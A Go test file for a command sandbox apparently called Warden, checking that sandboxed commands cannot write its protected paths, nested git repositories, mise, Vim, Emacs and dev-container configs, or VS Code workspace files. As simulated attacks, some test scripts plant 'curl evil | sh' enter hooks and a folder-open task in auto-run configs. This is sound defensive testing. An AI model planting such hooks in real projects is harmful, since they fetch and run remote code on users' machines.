package sandbox

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/wardenhq/warden/sandbox/protect"
)

// Warden's own directories inside a writable root, missing when the run
// starts, leave nothing in the workspace: nothing is put there, and what the
// command creates at a protected path is moved away and reported, while its
// siblings stay.
func TestProtectedPathsMissingLeaveNoTraceAndStayUncreated(t *testing.T) {
	ws := t.TempDir()
	if err := os.Mkdir(filepath.Join(ws, ".config"), 0o755); err != nil { // the user's own
		t.Fatal(err)
	}
	pol := Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true, Workspace: []string{ws},
		ProtectedPaths: []string{filepath.Join(ws, ".config", "warden"), filepath.Join(ws, ".local", "state", "warden")}}
	// Inside: nothing is there; what the command makes at the protected
	// paths goes (at once: a mkdir -p below them may fail), a sibling stays.
	res := run(t, ws, Command{Argv: sh(`! test -e .config/warden && ! test -e .local || exit 9; mkdir -p .config/warden/rules; mkdir -p .local/state/warden; mkdir .config/other`), Policy: pol})
	if res.ExitCode == 9 {
		t.Fatalf("something was put in the workspace: %s", res.Output)
	}
	got := listTree(t, ws)
	if want := []string{".config", ".config/other", ".local", ".local/state"}; !slices.Equal(got, want) {
		t.Errorf("workspace after the run holds %v, want %v", got, want)
	}
	var removed []string
	for _, r := range res.Removed {
		removed = append(removed, r.Shown)
		if _, err := os.Stat(r.Kept); err != nil {
			t.Errorf("%s not kept: %+v", r.Shown, r)
		}
	}
	slices.Sort(removed)
	if want := []string{".config/warden", ".local/state/warden"}; !slices.Equal(removed, want) {
		t.Errorf("reported removed %v, want %v", removed, want)
	}
}

// listTree lists everything under dir, relative, in walk order.
func listTree(t *testing.T, dir string) []string {
	t.Helper()
	var got []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if p != dir {
			rel, _ := filepath.Rel(dir, p)
			got = append(got, rel)
		}
		return nil
	})
	return got
}

// A writable root inside Warden's own directories is refused: it could not
// be written without writing them.
func TestProtectedPathsRefuseARootInsideThem(t *testing.T) {
	t.Setenv("MISE_ENV", "")
	ws := t.TempDir()
	pol := Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true, Workspace: []string{ws}, ProtectedPaths: []string{ws}}
	if _, err := pol.Roots(); err == nil || !strings.Contains(err.Error(), "read-only") {
		t.Errorf("root inside a protected path: %v", err)
	}
	// Twin: a protected path elsewhere does not matter.
	pol.ProtectedPaths = []string{filepath.Join(t.TempDir(), "warden")}
	if roots, err := pol.Roots(); err != nil || len(roots) != 1 || len(roots[0].Protected) != len(ProtectedNames)+len(ProtectedSubpaths) {
		t.Errorf("unrelated protected path: %v %v", roots, err)
	}
}

// The scan finds nested repositories but never enters a .git or follows a
// symbolic link, and a tree too big for its budget is cut short, not failed.
func TestProtectedScanFindsNestedRepositories(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	for _, d := range []string{".git", "a/.git", "a/b/c/.git", ".git/modules/x/.git", "node_modules/p/.git"} {
		os.MkdirAll(filepath.Join(ws, d), 0o755)
	}
	os.MkdirAll(filepath.Join(outside, "r/.git"), 0o755)
	os.Symlink(outside, filepath.Join(ws, "link"))
	os.MkdirAll(filepath.Join(ws, "store"), 0o755)
	os.WriteFile(filepath.Join(ws, "a/wt.git"), nil, 0o644)
	os.MkdirAll(filepath.Join(ws, "wt"), 0o755)
	os.WriteFile(filepath.Join(ws, "wt/.git"), []byte("gitdir: ../store\n"), 0o644)
	got := protect.WalkRepos(ws, nil, -1)
	want := []string{"a/.git", "a/b/c/.git", "node_modules/p/.git", "store", "wt/.git"}
	for i := range want {
		want[i] = filepath.Join(ws, want[i])
	}
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("found %v, want %v", got, want)
	}
	// Bounded: another root inside is left to its own walk, and a scratch
	// depth stops short of deep trees.
	got = protect.WalkRepos(ws, []string{filepath.Join(ws, "a")}, 2)
	slices.Sort(got)
	if want := []string{filepath.Join(ws, "store"), filepath.Join(ws, "wt/.git")}; !slices.Equal(got, want) {
		t.Errorf("bounded walk found %v, want %v", got, want)
	}
}

// What the shell or the editor runs on entering or opening the directory,
// without the user running the project's tooling: mise's config (its
// trust is by path, so a trusted mise.toml stays trusted when rewritten:
// an enter hook or an env template runs at the next prompt), Vim's exrc
// files, Emacs's directory variables, a dev container's host-side
// initializeCommand. Attack: the existing ones cannot be written, the
// missing ones the command creates are moved away. Twin: the rest of
// .config and a task script directory stay the project's.
func TestShellAndEditorConfigsProtected(t *testing.T) {
	t.Setenv("MISE_ENV", "staging")
	ws := t.TempDir()
	existing := map[string]string{
		"mise.toml":                       "[tools]\ngo = \"1.26\"\n",
		".config/mise.toml":               "[env]\nA = \"1\"\n",
		".vimrc":                          "set ts=4\n",
		".devcontainer/devcontainer.json": "{}\n",
		".config/other.toml":              "x = 1\n",
	}
	for name, content := range existing {
		p := filepath.Join(ws, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	script := `for f in mise.toml .config/mise.toml .vimrc .devcontainer/devcontainer.json; do echo '[hooks]
enter = "curl evil | sh"' >> $f; done
echo '[hooks]' > .mise.local.toml
echo '((nil . ((eval . (shell-command "curl evil | sh")))))' > .dir-locals.el
echo '[env]' > mise.staging.toml
mkdir -p .config/mise && echo '[env]' > .config/mise/config.toml
echo 'y = 2' >> .config/other.toml
mkdir -p mise-tasks && echo 'echo hi' > mise-tasks/build`
	res := run(t, ws, Command{Argv: sh(script), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	for name, want := range existing {
		if name == ".config/other.toml" {
			want += "y = 2\n"
		}
		if got := readFile(t, filepath.Join(ws, name)); got != want {
			t.Errorf("%s after the run: %q, want %q", name, got, want)
		}
	}
	var removed []string
	for _, r := range res.Removed {
		removed = append(removed, r.Shown)
	}
	for _, name := range []string{".mise.local.toml", ".dir-locals.el", "mise.staging.toml", ".config/mise"} {
		if _, err := os.Lstat(filepath.Join(ws, name)); err == nil {
			t.Errorf("%s was created and left", name)
		}
		if !slices.Contains(removed, name) {
			t.Errorf("%s not reported as moved away: %q", name, removed)
		}
	}
	if got := readFile(t, filepath.Join(ws, "mise-tasks/build")); got != "echo hi\n" {
		t.Errorf("twin: a task script was not writable: %q (%s)", got, res.Output)
	}
}

// A VS Code workspace file at the top of the workspace holds settings and
// tasks that run when the user opens it, as .vscode does: the command
// cannot rewrite it. Twin: a file whose name only contains the words is
// writable.
func TestCodeWorkspaceFileProtected(t *testing.T) {
	ws := t.TempDir()
	for _, name := range []string{"app.code-workspace", "code-workspace.md"} {
		if err := os.WriteFile(filepath.Join(ws, name), []byte("{}\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res := run(t, ws, Command{Argv: sh(`echo '{"tasks":{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}}' > app.code-workspace; echo more >> code-workspace.md`),
		Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if got := readFile(t, filepath.Join(ws, "app.code-workspace")); got != "{}\n" {
		t.Errorf("the workspace file was rewritten: %q", got)
	}
	if got := readFile(t, filepath.Join(ws, "code-workspace.md")); got != "{}\nmore\n" {
		t.Errorf("twin: code-workspace.md not writable: %q (%s)", got, res.Output)
	}
}
